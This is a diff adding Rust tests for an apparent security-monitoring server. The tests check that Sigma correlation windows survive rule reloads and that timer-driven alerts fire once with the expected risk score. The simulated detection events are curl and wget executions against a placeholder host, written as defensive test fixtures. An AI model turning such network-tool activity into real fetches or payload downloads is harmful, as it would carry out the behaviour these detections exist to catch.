+        assert_eq!(items.len(), 2, "{name}: {items:?}");
+        // Nothing left over from the retries: one more match is the first of a new window.
+        let r = post_events(&w.app, &w.token, "r4", vec![curl("2026-12-01T10:01:03Z")]).await;
+        assert_eq!(r["alerts"], 0, "{name}: {r}");
+    }
+}
+
+/// A rule reload (another rule file added) keeps the windows of the correlations it did not
+/// change: the third match after the reload completes the count of the two before it.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn sigma_correlations_survive_a_rule_reload() {
+    let dir = tempfile::tempdir().unwrap();
+    for (name, store) in stores(dir.path()).await {
+        let w = world(store).await;
+        let curl = |ts: &str| exec(ts, "curl", &["curl", "http://example.test/"], None);
+        let two = vec![curl("2026-12-01T10:00:00Z"), curl("2026-12-01T10:00:05Z")];
+        assert_eq!(post_events(&w.app, &w.token, "s1", two).await["alerts"], 0);
+        let handle = w.state.ingest.rules().unwrap().clone();
+        let rules_dir = handle.dir().unwrap().to_path_buf();
+        std::fs::write(rules_dir.join("timer.yml"), SIGMA_FEW).unwrap();
+        handle.reload().unwrap();
+        assert_eq!(handle.status().generation, 2);
+        let r = post_events(&w.app, &w.token, "s2", vec![curl("2026-12-01T10:00:10Z")]).await;
+        assert_eq!(
+            r["alerts"], 1,
+            "{name}: the reload reset the correlation: {r}"
+        );
+    }
+}
+
+/// A correlation with an upper bound fires when its window is over, without a later event:
+/// the timer stores the alert on the window's last match (scored like an upload: wget 50 plus
+/// the correlation's 90), once.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn sigma_correlation_upper_bound_fires_on_the_timer() {
+    let dir = tempfile::tempdir().unwrap();
+    for (name, store) in stores(dir.path()).await {
+        let w = world(store).await;
+        let handle = w.state.ingest.rules().unwrap().clone();
+        std::fs::write(handle.dir().unwrap().join("timer.yml"), SIGMA_FEW).unwrap();
+        handle.reload().unwrap();
+        let wget = |ts: &str| exec(ts, "wget", &["wget", "http://example.test/"], None);
+        let r = post_events(&w.app, &w.token, "t1", vec![wget("2026-12-01T11:00:00Z")]).await;
+        assert_eq!(r["alerts"], 0, "{name}: {r}");
+        // Before the window is over (event time, plus the grace for late uploads): nothing.
+        let early = chrono::DateTime::parse_from_rfc3339("2026-12-01T11:00:30Z")
+            .unwrap()
+            .with_timezone(&chrono::Utc)
+            + chrono::TimeDelta::from_std(outpost_server::ingest::CORRELATION_TIMER_GRACE).unwrap();
+        assert_eq!(
+            outpost_server::correlation_timer_tick(&w.state, early).await,
+            0
+        );
+        let now = chrono::Utc::now();
+        assert_eq!(
+            outpost_server::correlation_timer_tick(&w.state, now).await,
+            1,
+            "{name}"
+        );
+        assert_eq!(
+            outpost_server::correlation_timer_tick(&w.state, now).await,
+            0,
+            "{name}"
+        );
+        let items = alerts_of(&w, "9d2c1f00-0000-4000-8000-000000000012").await;
+        assert_eq!(items.len(), 1, "{name}: {items:?}");
+        let a = &items[0];
+        assert_eq!(a["risk_score"], 140, "{a}");
+        assert_eq!(a["device_id"], w.device.as_str(), "{a}");
+        assert!(
+            a["event"]["ts"]
+                .as_str()
+                .unwrap()
+                .starts_with("2026-12-01T11:00:00"),
+            "{a}"
+        );
+    }
+}
